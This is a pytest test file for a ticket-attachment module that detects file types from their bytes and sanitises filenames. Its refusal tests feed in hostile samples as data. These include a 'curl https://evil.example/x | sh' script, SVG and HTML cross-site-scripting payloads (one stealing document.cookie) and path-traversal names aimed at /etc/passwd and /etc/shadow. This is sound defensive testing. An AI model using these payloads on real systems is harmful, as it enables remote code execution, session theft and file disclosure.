"""Attachment intake: type by content (SPEC.md §6) and safe filenames. Pure, no Django."""

import inspect
import io
import json
import struct
import unicodedata
import zipfile
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tickets.uploads import (
    ALLOWED_TYPES,
    MIN_HEAD_BYTES,
    RejectedFile,
    sanitize_filename,
    sniff_content_type,
)

MAX_NAME_BYTES = 240  # what ext4's 255-byte limit leaves after Django's clash suffix

# --- real sample files, built here so the tests show exactly what they feed in ----------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def make_png() -> bytes:
    """A valid 1x1 red RGB PNG."""
    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")  # filter byte, then R G B
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", pixels)
        + _png_chunk(b"IEND", b"")
    )


def make_jpeg() -> bytes:
    """SOI, a JFIF APP0 segment, EOI: the header a sniffer sees."""
    app0 = b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return b"\xff\xd8\xff\xe0" + struct.pack(">H", len(app0) + 2) + app0 + b"\xff\xd9"


# The classic 1x1 transparent GIF89a.
GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00"
    b"\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)


def make_webp() -> bytes:
    """A 1x1 lossy WebP: RIFF container, WEBP form, one VP8 chunk."""
    vp8 = bytes.fromhex("d001009d012a0100010002003425a400037000fefb94000000")
    chunk = b"VP8 " + struct.pack("<I", len(vp8)) + vp8
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def make_pdf() -> bytes:
    """A minimal valid one-page PDF with a correct xref table; it is all ASCII."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 72 72] >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def make_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("logs/app.log", "2024-05-01 10:00:00 ERROR withdrawal stuck\n")
        archive.writestr("screenshot.txt", "see attached")
    return buffer.getvalue()


def make_docx_like() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


LOG = (
    "2024-05-01 10:00:00.123 INFO  用户 登录成功 uid=10023\n"
    "2024-05-01 10:00:03.456 WARN  提现 请求 超时, retrying (1/3)\n"
    "2024-05-01 10:00:09.789 ERROR 提现失败: insufficient gas, tx=0xabc123\n"
).encode()

CSV = (
    b"time,pair,side,amount\n2024-05-01 10:00,BTC/USDT,buy,0.5\n2024-05-01 10:01,ETH/USDT,sell,2\n"
)

ELF_HEADER = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 44
PE_HEADER = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 52 + struct.pack("<I", 64) + b"PE\x00\x00"


def rejection(head: bytes, filename: str = "", **kwargs) -> str:
    with pytest.raises(RejectedFile) as caught:
        sniff_content_type(head, filename, **kwargs)
    return caught.value.reason


# --- accepted types ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("head", "filename", "expected"),
    [
        (make_png(), "screenshot.png", "image/png"),
        (make_jpeg(), "photo.jpg", "image/jpeg"),
        (GIF, "spinner.gif", "image/gif"),
        (make_webp(), "kyc.webp", "image/webp"),
        (make_pdf(), "statement.pdf", "application/pdf"),
        (make_zip(), "logs.zip", "application/zip"),
        (LOG, "app.log", "text/plain"),
        (CSV, "trades.csv", "text/csv"),
        (
            b'{"order_id": 42, "status": "stuck", "pairs": ["BTC/USDT"]}',
            "o.json",
            "application/json",
        ),
        (b"[1, 2, 3]\n", "", "application/json"),
    ],
)
def test_given_a_real_file_when_sniffed_then_its_type_comes_from_the_bytes(
    head, filename, expected
):
    assert sniff_content_type(head, filename) == expected


def test_given_a_png_named_txt_when_sniffed_then_it_is_a_png():
    assert sniff_content_type(make_png(), "x.txt") == "image/png"
    assert sniff_content_type(make_png(), "x.csv") == "image/png"


def test_client_claimed_types_cannot_even_be_passed():
    assert list(inspect.signature(sniff_content_type).parameters) == [
        "head",
        "filename",
        "allowed",
    ]


def test_given_an_apng_when_sniffed_then_it_is_a_png():
    png = make_png()
    animation = _png_chunk(b"acTL", struct.pack(">II", 1, 0))
    apng = png[:33] + animation + png[33:]  # acTL goes after IHDR, before IDAT
    assert sniff_content_type(apng, "a.png") == "image/png"


def test_given_text_cut_inside_an_emoji_at_the_head_boundary_then_it_is_still_text():
    data = ("ticket notes 🚀 " * 1000).encode()
    rocket = data.index("🚀".encode(), MIN_HEAD_BYTES)
    head = data[: rocket + 2]  # two of the emoji's four bytes
    with pytest.raises(UnicodeDecodeError):
        head.decode()  # the premise: the head really ends mid-character
    assert sniff_content_type(head, "notes.txt") == "text/plain"


def test_given_a_utf8_bom_or_a_utf16_log_from_windows_then_it_is_text():
    assert sniff_content_type(b"\xef\xbb\xbf" + LOG, "a.log") == "text/plain"
    text = LOG.decode()
    assert sniff_content_type(b"\xff\xfe" + text.encode("utf-16-le"), "a.log") == "text/plain"
    assert sniff_content_type(b"\xfe\xff" + text.encode("utf-16-be"), "a.log") == "text/plain"


def test_given_a_terminal_log_with_colour_codes_then_it_is_text():
    log = b"\x1b[32mINFO\x1b[0m started\r\n\x1b[31mERROR\x1b[0m failed\tcode=7\n"
    assert sniff_content_type(log, "run.log") == "text/plain"


def test_given_a_log_that_starts_with_a_bracket_then_it_is_not_json():
    log = b"[2024-05-01 10:00:00] INFO started\n[2024-05-01 10:00:01] INFO ok\n"
    assert sniff_content_type(log, "app.log") == "text/plain"
    assert sniff_content_type(b"[INFO]", "a.log") == "text/plain"
    assert sniff_content_type(b'{"a": 1', "a.json") == "text/plain"  # whole file, broken


def test_given_json_lines_then_it_is_plain_text():
    assert sniff_content_type(b'{"a": 1}\n{"a": 2}\n', "events.jsonl") == "text/plain"


def test_given_the_head_of_a_large_json_document_then_it_is_json():
    document = json.dumps([{"id": n, "note": "提现 pending"} for n in range(2000)]).encode()
    assert len(document) > MIN_HEAD_BYTES * 2
    for cut in range(MIN_HEAD_BYTES, MIN_HEAD_BYTES + 40):
        assert sniff_content_type(document[:cut], "export.json") == "application/json"


def test_the_extension_only_chooses_between_text_subtypes():
    assert sniff_content_type(CSV, "trades.TXT") == "text/plain"
    assert sniff_content_type(CSV, "trades.CSV") == "text/csv"
    semicolons = "名称;数量\nBTC;0,5\nETH;2\n".encode()
    assert sniff_content_type(semicolons, "holdings.csv") == "text/csv"
    ragged = b"Hello, support team.\nMy withdrawal is stuck\nThanks, Li, Wei\n"
    assert sniff_content_type(ragged, "notes.csv") == "text/plain"


def test_given_text_that_begins_like_a_weak_binary_signature_then_it_is_text():
    # filetype alone calls these a bitmap, a GIF and an MP3.
    assert sniff_content_type(b"BMW,3 series\nAudi,A4\n", "cars.csv") == "text/csv"
    assert sniff_content_type(b"GIFs do not load in the app\n", "bug.txt") == "text/plain"
    assert sniff_content_type(b"ID3 tags?\n", "q.txt") == "text/plain"


# --- refused -----------------------------------------------------------------------------

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'
HTML = b"<!DOCTYPE html><html><body><script>steal(document.cookie)</script></body></html>"


@pytest.mark.parametrize(
    ("head", "filename"),
    [
        (SVG, "logo.png"),
        (b'<?xml version="1.0" encoding="UTF-8"?>\n' + SVG, "logo.png"),
        (b"\xef\xbb\xbf  \n<SVG>" + SVG[4:], "logo.svg"),
        (b'<?xml version="1.0"?><order id="1"/>', "order.txt"),
        (HTML, "screenshot.png"),
        (HTML, "readme.txt"),
        (b"<html><h1>hi</h1></html>", "page.pdf"),
        (b"error log\n<ScRiPt src=//evil.example/x.js></script>\n", "app.log"),
        (b'see <a href="javascript:alert(1)">here</a>', "notes.txt"),
        (b"\xff\xfe" + "<svg/onload=alert(1)>".encode("utf-16-le"), "x.txt"),
    ],
)
def test_given_markup_whatever_its_extension_then_it_is_refused(head, filename):
    assert rejection(head, filename) == "HTML, SVG and XML files are not accepted"


def test_given_a_shell_script_named_log_then_it_is_refused():
    script = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
    assert rejection(script, "debug.log") == "scripts are not accepted"
    assert rejection(b"\xef\xbb\xbf\n  #!/usr/bin/env python3\nprint(1)\n", "a.txt") == (
        "scripts are not accepted"
    )


@pytest.mark.parametrize(
    ("head", "filename", "reason"),
    [
        (ELF_HEADER, "tool.png", "type application/x-executable is not accepted"),
        (
            ELF_HEADER[:20],
            "tool.png",
            "executable files are not accepted",
        ),  # too short for filetype
        (b"\x7fELF" + b"looks like text", "a.txt", "executable files are not accepted"),
        (
            b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 24,
            "app.pdf",
            "executable files are not accepted",
        ),
        (PE_HEADER, "invoice.pdf", "type application/x-msdownload is not accepted"),
        (b"\x00asm\x01\x00\x00\x00", "x.json", "type application/wasm is not accepted"),
        (b"BM\x3a\x00\x00\x00\x00\x00\x00\x00\x36\x00", "a.png", "type image/bmp is not accepted"),
        (b"%!PS-Adobe-3.0\n", "a.txt", "type application/postscript is not accepted"),
        (
            make_docx_like(),
            "a.zip",
            "type application/vnd.openxmlformats-officedocument"
            ".wordprocessingml.document is not accepted",
        ),
    ],
)
def test_given_an_executable_or_unlisted_binary_then_it_is_refused(head, filename, reason):
    assert rejection(head, filename) == reason


def test_given_unknown_bytes_with_nuls_then_they_are_refused():
    assert rejection(b"hello\x00world\x00\x01\x02", "notes.txt") == (
        "the content is not a recognised file type"
    )
    assert rejection(bytes(range(256)), "data.log") == "the content is not a recognised file type"
    assert rejection(b"\xff\xfe\x00\x00" + "text".encode("utf-32-le"), "a.txt") == (
        "the content is not a recognised file type"
    )  # UTF-32 is not taken


def test_given_text_full_of_control_characters_then_it_is_refused():
    assert rejection(b"ab\x07\x08cd\x01", "a.txt") == "the content is not a recognised file type"


def test_given_an_empty_file_then_it_is_refused():
    assert rejection(b"", "empty.txt") == "empty file"


def test_given_a_narrower_allow_list_then_other_types_are_refused():
    only_images = frozenset({"image/png", "image/jpeg"})
    assert sniff_content_type(make_png(), "a.png", only_images) == "image/png"
    assert rejection(make_pdf(), "a.pdf", allowed=only_images) == (
        "type application/pdf is not accepted"
    )
    assert rejection(LOG, "a.log", allowed=only_images) == "type text/plain is not accepted"


def test_a_reason_never_quotes_the_file():
    secret = b"seed phrase: correct horse battery staple"
    for head in (HTML + secret, b"#!/bin/sh\n" + secret, secret + b"\x00\x00"):
        reason = rejection(head, "x.txt")
        assert "seed" not in reason and "horse" not in reason


def test_the_default_allow_list_is_the_spec_list():
    assert ALLOWED_TYPES == {
        "image/png",
        "image/jpeg",
        "image/gif",
        "image/webp",
        "application/pdf",
        "text/plain",
        "text/csv",
        "application/json",
        "application/zip",
    }


# --- filenames ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\x\\截图 2024.png", "截图 2024.png"),
        ("<script>.png", "script.png"),
        ("report (final)_v2-1.pdf", "report (final)_v2-1.pdf"),
        ("／etc／shadow", "shadow"),  # fullwidth solidus becomes "/" under NFKC
        ("．．／x.txt", "x.txt"),
        (".bashrc", "bashrc"),
        ("...", "attachment"),
        ("", "attachment"),
        ("   \t\n", "attachment"),
        ("a\tb\n  c.txt", "a b c.txt"),
        ("invoice\u202egnp.exe", "invoicegnp.exe"),  # right-to-left override dropped
        ("bad\x00name\x1f.log", "badname.log"),
        ("payout.exe. . ", "payout.exe"),
        ("-rf .txt", "rf .txt"),
        ("CON.txt", "_CON.txt"),
        ("con", "_con"),
        ("lpt1 .tar.gz", "_lpt1 .tar.gz"),
        ("COM¹.log", "_COM1.log"),
        ("CONSOLE.txt", "CONSOLE.txt"),
        ("e\u0301te\u0301.txt", "été.txt"),
        ("🚀 launch.png", "launch.png"),
    ],
)
def test_sanitize_filename_examples(name, expected):
    assert sanitize_filename(name) == expected


def test_sanitize_filename_uses_the_default_when_nothing_is_left():
    assert sanitize_filename("///", default="upload") == "upload"


def test_a_long_name_is_cut_but_keeps_its_extension():
    assert sanitize_filename("a" * 400 + ".png") == "a" * 146 + ".png"
    cjk = sanitize_filename("截" * 400 + ".pdf")
    assert cjk.endswith("截.pdf") and len(cjk.encode()) <= MAX_NAME_BYTES
    no_extension = sanitize_filename("b" * 400)
    assert no_extension == "b" * 150


names = st.one_of(
    st.text(st.characters()),  # any code point, lone surrogates included
    st.text(st.sampled_from(list("./\\ .-_()aé截\u0301\u202e\x00\t\nCONPRUXL1.txt"))),
    st.text(st.characters(), min_size=140, max_size=600),
)


@given(names)
def test_a_sanitized_name_is_always_safe(name):
    result = sanitize_filename(name)
    assert result
    assert len(result) <= 150
    assert len(result.encode()) <= MAX_NAME_BYTES  # encodes: no lone surrogates
    assert "/" not in result and "\\" not in result
    assert not result.startswith(".")
    assert not result.endswith((".", " "))
    assert not any(unicodedata.category(ch).startswith("C") for ch in result)
    assert result.split(".")[0].strip().upper() not in {"CON", "PRN", "AUX", "NUL", "COM1", "LPT1"}


@given(names)
def test_sanitize_filename_is_idempotent(name):
    once = sanitize_filename(name)
    assert sanitize_filename(once) == once


@given(st.binary(max_size=4096), st.sampled_from(["", "a.csv", "a.png", "a.txt"]))
def test_any_bytes_are_either_an_allowed_type_or_refused(head, filename):
    try:
        assert sniff_content_type(head, filename) in ALLOWED_TYPES
    except RejectedFile as refused:
        assert refused.reason
